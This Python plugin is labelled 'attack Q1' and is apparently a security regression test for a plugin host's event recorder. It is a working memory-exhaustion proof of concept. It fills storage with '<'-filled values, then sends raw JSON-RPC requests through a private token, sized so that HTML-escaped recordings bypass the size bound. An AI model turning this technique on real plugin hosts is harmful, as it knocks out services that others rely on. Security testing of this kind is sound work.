# The host-call result flood of hostcallflood, from an event handler
# instead of a dashboard call (attack Q1): every event is recorded while it
# runs (engine/recording.go), and the recorder encoded each host call's
# result with encoding/json (HTML escaping: each '<' six bytes) before it
# checked whether the recording had room for it, so the bound the host keeps
# for answers did not hold on this second path.
import json
import os

from maid_sdk import Plugin

plugin = Plugin()

VALUES = 140  # x 65,000 bytes: 9.1 MB of the 10 MiB quota


@plugin.on_dashboard("fill")
def fill(ctx, params):
    v = "<" * 65000
    for start in range(0, VALUES, 10):
        ctx.kv.set_many({"v%03d" % i: v for i in range(start, min(start + 10, VALUES))})
    return {"count": ctx.kv.count()}


@plugin.on_event("message_create")
def flood(ctx, event):
    # 15 values per request: about 975 KB, just under one result's bound,
    # so each answer is built and sent; the recorder's copy was 5.85 MB.
    groups = [["v%03d" % i for i in range(s, s + 15)] for s in range(0, 135, 15)]
    tok = ctx._token
    for r in range(32):
        buf = b""
        for i in range(8):
            p = {"call": tok, "keys": groups[i % len(groups)]}
            buf += json.dumps({"jsonrpc": "2.0", "id": "z%d_%d" % (r, i), "method": "kv.get_many", "params": p}).encode() + b"\n"
        os.write(1, buf)
        # Read the 8 answers (raw, as they come), so the host never stops
        # us for leaving replies unread (8 answers stay under the replies it
        # holds for us): only the recorder's copies would grow.
        seen = 0
        while seen < 8:
            chunk = os.read(0, 1 << 20)
            if not chunk:
                break
            seen += chunk.count(b"\n")
    ctx.kv.set("flooded", True)


plugin.run()
